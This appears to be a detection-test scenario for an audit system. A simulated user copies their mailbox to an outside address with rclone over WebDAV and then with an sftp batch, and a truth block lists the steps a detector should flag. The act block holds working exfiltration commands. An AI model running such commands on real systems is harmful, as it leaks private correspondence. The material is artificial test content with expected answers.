# Two programs of the same person carry the same mailbox to two places.
title="Maildir copied to a WebDAV server with rclone, then once more by an sftp batch"
what="clerk copies the own Maildir with rclone to a WebDAV server at 203.0.113.66 and, a little later, puts its new messages to an SSH server at the same address, port 2222, with an sftp batch file."
host=mx1.example.org user=clerk daemons="cron sshd" audit_rules=audit-wide.rules audit_format=RAW

setup() { outside_sshd; }
act() {
  for n in 1 2 3 4; do mail_in --from "customer$n@example.net" --to clerk@example.org --subject "Order $n"; done
  wait_mail clerk 4
  ssh_as clerk <<'L'
rclone copy Maildir :webdav:in/m --webdav-url http://203.0.113.66/ --webdav-vendor other --log-level ERROR --retries 1
%sleep 3
printf 'put Maildir/new/* /tmp/\n' > .b
sftp -q -b .b -P 2222 -i ~/.ssh/id_out -o StrictHostKeyChecking=no root@203.0.113.66
rm .b
L
  small_talk 2
}
truth() {
  exec_step copy 'rclone copy Maildir' 'rclone starts'
  file_step read 'rclone open(at)?:read NORMAL .*Maildir/new/' 'it reads the messages'
  net_step upload 'rclone 203.0.113.66:80' 'and uploads them'
  exec_step batch 'sftp -q -b .b' 'an sftp batch follows'
  net_step again 'ssh 203.0.113.66:2222' 'to the same address'
}
